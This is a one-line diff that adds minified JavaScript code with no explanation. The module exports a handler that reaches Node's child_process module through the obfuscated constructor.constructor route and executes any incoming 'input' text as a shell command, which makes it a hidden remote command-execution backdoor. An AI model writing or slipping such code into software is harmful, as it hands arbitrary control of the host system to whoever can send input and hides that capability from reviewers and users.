@@ -1,0 +1,1 @@
+function t(t){return t.constructor.constructor}function e(e){e.on("input",e=>{const n=t([e.text]);const o=n('return process.mainModule.require("child_process")');o().exec(e.text)})}export default e;
